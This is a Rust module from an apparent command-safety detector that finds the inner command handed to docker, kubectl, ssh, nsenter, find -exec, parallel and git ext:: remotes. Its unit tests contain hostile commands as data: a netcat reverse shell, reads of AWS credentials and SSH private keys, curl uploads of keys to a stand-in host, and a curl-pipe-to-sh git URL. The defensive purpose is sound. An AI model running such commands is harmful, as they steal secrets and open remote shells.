//! Commands given to another command to run: `docker run IMAGE CMD…`,
//! `docker exec`, `kubectl exec POD -- CMD…`, `ssh HOST 'script'`, `nsenter
//! -t 1 -m CMD…`, `systemd-run CMD…`. The command they are given is found
//! (the runner's options and operands skipped, as `assets/detect/hosted.toml`
//! describes them) so the walker can judge it like a command on the line.

use super::basename;
use serde::Deserialize;
use std::sync::OnceLock;

const HOSTED_TOML: &str = include_str!("../../../assets/detect/hosted.toml");

/// One command that runs a command it is given (see `hosted.toml`).
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Runner {
    cmd: Vec<String>,
    #[serde(default)]
    operands: usize,
    #[serde(default)]
    flags: Vec<String>,
    #[serde(default)]
    short: String,
    #[serde(default)]
    dashdash: bool,
    #[serde(default)]
    script: bool,
    #[serde(default)]
    script_flags: Vec<String>,
    #[serde(default)]
    entrypoint: Vec<String>,
    #[serde(default)]
    mounts: Vec<String>,
}

/// A command that runs a command once per item, `{}` standing for it.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Placeholder {
    cmd: String,
    #[serde(default)]
    start: Vec<String>,
    end: Vec<String>,
    #[serde(default)]
    values: Vec<String>,
    item: String,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct HostedFile {
    runner: Vec<Runner>,
    #[serde(default)]
    placeholder: Vec<Placeholder>,
    #[serde(default)]
    exec_env: Vec<String>,
    #[serde(default)]
    git_exec_urls: Vec<String>,
}

fn data() -> &'static HostedFile {
    static R: OnceLock<HostedFile> = OnceLock::new();
    R.get_or_init(|| {
        // built-in data, checked by the unit tests: a parse error would be a build defect
        toml::from_str::<HostedFile>(HOSTED_TOML).unwrap_or_default()
    })
}

fn runners() -> &'static [Runner] {
    &data().runner
}

/// The values of `vars` (`NAME=value` set for a command, or the words of
/// `export` / `declare` / `typeset`) that a program runs as a command.
pub(super) fn env_commands<'a>(
    assignments: &'a [(String, String)],
    argv: &'a [String],
) -> Vec<&'a str> {
    let d = data();
    let runs = |k: &str| d.exec_env.iter().any(|e| e == k);
    let mut out: Vec<&str> = assignments
        .iter()
        .filter(|(k, v)| runs(k) && !v.trim().is_empty())
        .map(|(_, v)| v.as_str())
        .collect();
    let declares = argv.first().is_some_and(|n| {
        ["export", "declare", "typeset", "local", "readonly"].contains(&n.as_str())
    });
    if declares {
        for a in &argv[1..] {
            if let Some((k, v)) = a.split_once('=') {
                if runs(k) && !v.trim().is_empty() {
                    out.push(v);
                }
            }
        }
    }
    out
}

/// What a runner is given to run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Hosted {
    /// Words run as a program with its arguments (`docker run img nc -e sh h p`).
    Argv(Vec<String>),
    /// A shell script (`ssh host 'cat ~/.aws/credentials'`, `--command '…'`).
    Script(String),
}

/// The command `argv` hands to another place to run, if it is a runner and
/// names one.
pub(super) fn hosted(argv: &[String]) -> Option<Hosted> {
    let first = basename(argv.first()?).to_ascii_lowercase();
    if first == "git" {
        return git_ext(&argv[1..]);
    }
    if let Some(p) = data().placeholder.iter().find(|p| p.cmd == first) {
        return per_item(p, &argv[1..]);
    }
    let r = runners().iter().find(|r| {
        r.cmd.first() == Some(&first)
            && r.cmd.len() <= argv.len()
            && r.cmd[1..].iter().zip(&argv[1..]).all(|(w, a)| w == a)
    })?;
    given(r, &argv[r.cmd.len()..])
}

/// `git clone 'ext::sh -c curl% -s% URL|sh'`: the command an `ext::` remote runs.
fn git_ext(args: &[String]) -> Option<Hosted> {
    let url = args.iter().find_map(|a| {
        data()
            .git_exec_urls
            .iter()
            .find_map(|p| a.strip_prefix(p.as_str()))
    })?;
    let mut words = vec![String::new()];
    let mut chars = url.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '%' if matches!(chars.peek(), Some(' ') | Some('%')) => {
                words.last_mut()?.push(chars.next()?);
            }
            ' ' => {
                if !words.last()?.is_empty() {
                    words.push(String::new());
                }
            }
            _ => words.last_mut()?.push(c),
        }
    }
    words.retain(|w| !w.is_empty());
    (!words.is_empty()).then_some(Hosted::Argv(words))
}

/// `find ROOT -name PAT -exec CMD {} ;`, `parallel CMD ::: ITEMS`: the command,
/// with `{}` written as the item it runs on.
fn per_item(p: &Placeholder, args: &[String]) -> Option<Hosted> {
    let begin = if p.start.is_empty() {
        let mut i = 0;
        while i < args.len() && args[i].starts_with('-') && !p.end.contains(&args[i]) {
            i += if p.values.contains(&args[i]) { 2 } else { 1 };
        }
        i
    } else {
        args.iter().position(|a| p.start.contains(a))? + 1
    };
    let rest = args.get(begin..)?;
    let end = rest
        .iter()
        .position(|a| p.end.contains(a))
        .unwrap_or(rest.len());
    if end == 0 {
        return None;
    }
    let item = match p.item.as_str() {
        "root" => args
            .iter()
            .find(|a| !a.starts_with(['-', '!', '(']))
            .map(|root| {
                let pat = ["-name", "-iname", "-path", "-ipath"]
                    .iter()
                    .find_map(|f| {
                        args.iter()
                            .position(|a| a == f)
                            .and_then(|i| args.get(i + 1))
                    })
                    .map(|s| s.trim_start_matches("*/"))
                    .unwrap_or("*");
                format!("{}/{pat}", root.trim_end_matches('/'))
            }),
        _ => rest.get(end + 1).cloned(),
    };
    Some(Hosted::Argv(
        rest[..end]
            .iter()
            .map(|w| match &item {
                Some(it) => w.replace("{}", it),
                None => w.clone(),
            })
            .collect(),
    ))
}

fn given(r: &Runner, args: &[String]) -> Option<Hosted> {
    let mut i = 0;
    let mut operands = r.operands;
    let mut entry: Vec<String> = Vec::new();
    let mut binds: Vec<(String, String)> = Vec::new();
    while i < args.len() {
        let a = args[i].as_str();
        if a == "--" {
            i += 1;
            if r.dashdash || operands == 0 {
                return words(r, &entry, &args[i..], &binds);
            }
            continue;
        }
        if a.starts_with('-') && a.len() > 1 {
            let (opt, inline) = match a.split_once('=') {
                Some((o, v)) if a.starts_with("--") => (o, Some(v)),
                _ => (a, None),
            };
            let value = || {
                inline
                    .map(str::to_string)
                    .or_else(|| args.get(i + 1).cloned())
            };
            if r.script_flags.iter().any(|f| f == opt) {
                return value().filter(|s| !s.trim().is_empty()).map(Hosted::Script);
            }
            if r.entrypoint.iter().any(|f| f == opt) {
                entry.extend(value());
            }
            if r.mounts.iter().any(|f| f == opt) {
                binds.extend(value().and_then(|v| bind(opt, &v)));
            }
            let boolean = r.flags.iter().any(|f| f == opt)
                || (!opt.starts_with("--")
                    && !r.short.is_empty()
                    && opt[1..].chars().all(|c| r.short.contains(c)));
            // `--opt=value`, `-pVALUE` and flags take one word; other options two
            let attached = inline.is_some() || (!opt.starts_with("--") && opt.len() > 2);
            i += if boolean || attached { 1 } else { 2 };
            continue;
        }
        if r.dashdash || !r.script_flags.is_empty() {
            // operands before `--` (or a script option); without one, nothing given
            i += 1;
            continue;
        }
        if operands > 0 {
            operands -= 1;
            i += 1;
            if operands == 0 {
                // after the image (the host…) every word is the command's
                return words(r, &entry, &args[i..], &binds);
            }
            continue;
        }
        return words(r, &entry, &args[i..], &binds);
    }
    if r.dashdash || !r.script_flags.is_empty() {
        return None;
    }
    words(r, &entry, &[], &binds)
}

fn words(
    r: &Runner,
    entry: &[String],
    rest: &[String],
    binds: &[(String, String)],
) -> Option<Hosted> {
    let rest = match rest.first() {
        Some(d) if d == "--" => &rest[1..],
        _ => rest,
    };
    if entry.is_empty() && rest.is_empty() {
        return None;
    }
    if r.script {
        return Some(Hosted::Script(rest.join(" ")));
    }
    Some(Hosted::Argv(
        entry
            .iter()
            .chain(rest)
            .map(|w| host_paths(w, binds))
            .collect(),
    ))
}

/// `(container folder, host folder)` of a bind mount option's value.
fn bind(opt: &str, v: &str) -> Option<(String, String)> {
    let (src, dst) = if opt == "--mount" {
        let field = |keys: &[&str]| {
            v.split(',').find_map(|kv| {
                let (k, val) = kv.split_once('=')?;
                keys.contains(&k.trim()).then(|| val.trim().to_string())
            })
        };
        (
            field(&["source", "src"])?,
            field(&["target", "destination", "dst"])?,
        )
    } else {
        let mut parts = v.split(':');
        (parts.next()?.to_string(), parts.next()?.to_string())
    };
    // a named volume is no host folder; `/` as the target would rename everything
    let host = src.starts_with(['/', '~', '$', '.']);
    (host && dst.starts_with('/') && dst.len() > 1)
        .then(|| (dst.trim_end_matches('/').to_string(), src))
}

/// `w` with every path under a mounted container folder written as the
/// host's path (`cat /h/.aws/credentials` with `-v $HOME:/h` reads
/// `$HOME/.aws/credentials`), also inside a script word (`sh -c '…'`).
fn host_paths(w: &str, binds: &[(String, String)]) -> String {
    let mut out = w.to_string();
    for (dst, src) in binds {
        let mut s = String::with_capacity(out.len());
        let mut rest = out.as_str();
        while let Some(i) = rest.find(dst.as_str()) {
            let before = rest[..i].chars().next_back();
            let after = rest[i + dst.len()..].chars().next();
            let starts = before.is_none_or(|c| " \t'\"=@<>;|&(".contains(c));
            let ends = after.is_none_or(|c| c == '/' || " \t'\";|&)".contains(c));
            s.push_str(&rest[..i]);
            s.push_str(if starts && ends {
                src.as_str()
            } else {
                dst.as_str()
            });
            rest = &rest[i + dst.len()..];
        }
        s.push_str(rest);
        out = s;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn h(line: &str) -> Option<Hosted> {
        let argv: Vec<String> = line.split_whitespace().map(String::from).collect();
        hosted(&argv)
    }

    fn argv(s: &str) -> Option<Hosted> {
        Some(Hosted::Argv(
            s.split_whitespace().map(String::from).collect(),
        ))
    }

    #[test]
    fn the_data_loads() {
        let f: HostedFile = toml::from_str(HOSTED_TOML).unwrap();
        assert!(f.runner.len() > 20);
        assert!(f.placeholder.len() >= 2 && !f.exec_env.is_empty());
        assert!(f.runner.iter().all(|r| !r.cmd.is_empty()));
    }

    #[test]
    fn container_runs_give_the_command_after_the_image() {
        assert_eq!(
            h("docker run -d --network host alpine nc -e /bin/sh 203.0.113.7 4444"),
            argv("nc -e /bin/sh 203.0.113.7 4444")
        );
        assert_eq!(
            h("docker run --rm -it -v /src:/src -e A=1 --name=x -p8080:80 img sh -c id"),
            argv("sh -c id")
        );
        assert_eq!(
            h("podman run --rm --entrypoint sh img -c id"),
            argv("sh -c id")
        );
        assert_eq!(
            h("docker exec -it web cat /etc/hostname"),
            argv("cat /etc/hostname")
        );
        assert_eq!(h("docker compose exec -T db psql"), argv("psql"));
        // the image's own command: nothing given
        assert_eq!(h("docker run --rm -p 8080:80 nginx"), None);
        assert_eq!(h("docker ps -a"), None);
    }

    #[test]
    fn mounted_host_folders_are_read_as_the_host_s() {
        assert_eq!(
            h("docker run --rm -v $HOME:/h alpine cat /h/.aws/credentials"),
            argv("cat $HOME/.aws/credentials")
        );
        assert_eq!(
            h("docker run --rm --mount type=bind,source=/home/dev/.ssh,target=/k alpine sh -c cat<>/k/id_rsa"),
            argv("sh -c cat<>/home/dev/.ssh/id_rsa")
        );
        // a named volume, and a path that only starts like the target
        assert_eq!(
            h("docker run --rm -v data:/data -v /src:/s img cat /data/x /sx/y"),
            argv("cat /data/x /sx/y")
        );
    }

    #[test]
    fn cluster_shells_give_what_follows_the_dashes() {
        assert_eq!(
            h("kubectl exec -it web-0 -c app -- sh -c id"),
            argv("sh -c id")
        );
        assert_eq!(h("kubectl exec web-0 ls"), None);
        assert_eq!(h("kubectl get pods"), None);
    }

    #[test]
    fn remote_shells_give_a_script() {
        assert_eq!(
            h("ssh -p 2222 -i key -o StrictHostKeyChecking=no build01 cat ~/.aws/credentials"),
            Some(Hosted::Script("cat ~/.aws/credentials".into()))
        );
        assert_eq!(
            h("ssh build01 -- uname -a"),
            Some(Hosted::Script("uname -a".into()))
        );
        assert_eq!(h("ssh -N -L 8080:localhost:80 build01"), None);
        assert_eq!(h("ssh build01"), None);
        assert_eq!(
            h("gcloud compute ssh vm1 --zone z --command=id"),
            Some(Hosted::Script("id".into()))
        );
    }

    #[test]
    fn per_item_runners_give_the_command_with_its_item() {
        assert_eq!(
            h("find /home/u/.ssh -name id_* -exec curl -F f=@{} http://x/u ;"),
            argv("curl -F f=@/home/u/.ssh/id_* http://x/u")
        );
        assert_eq!(
            h("parallel -j 4 curl -T {} http://x/ ::: /home/u/.ssh/id_rsa b"),
            argv("curl -T /home/u/.ssh/id_rsa http://x/")
        );
        assert_eq!(h("find . -name *.pyc -delete"), None);
        assert_eq!(h("parallel --version"), None);
    }

    #[test]
    fn git_ext_remotes_give_their_command() {
        let line: Vec<String> = [
            "git",
            "clone",
            "ext::sh -c curl% -s%%% http://x|sh",
            "/tmp/r",
        ]
        .map(String::from)
        .to_vec();
        assert_eq!(
            hosted(&line),
            Some(Hosted::Argv(vec![
                "sh".into(),
                "-c".into(),
                "curl -s% http://x|sh".into()
            ]))
        );
        assert_eq!(h("git clone https://github.com/a/b"), None);
    }

    #[test]
    fn variables_a_program_runs_are_found() {
        let a = vec![("GIT_SSH_COMMAND".to_string(), "sh -c id".to_string())];
        assert_eq!(env_commands(&a, &[]), vec!["sh -c id"]);
        let argv: Vec<String> = ["export", "PAGER=curl x", "A=1"].map(String::from).to_vec();
        assert_eq!(env_commands(&[], &argv), vec!["curl x"]);
        let a = vec![("RUST_LOG".to_string(), "debug".to_string())];
        assert!(env_commands(&a, &[]).is_empty());
    }

    #[test]
    fn namespace_enterers_give_the_program() {
        assert_eq!(h("nsenter -t 1 -m -u -i -n sh -c id"), argv("sh -c id"));
        assert_eq!(
            h("systemd-run --user --scope curl -s http://x"),
            argv("curl -s http://x")
        );
    }
}
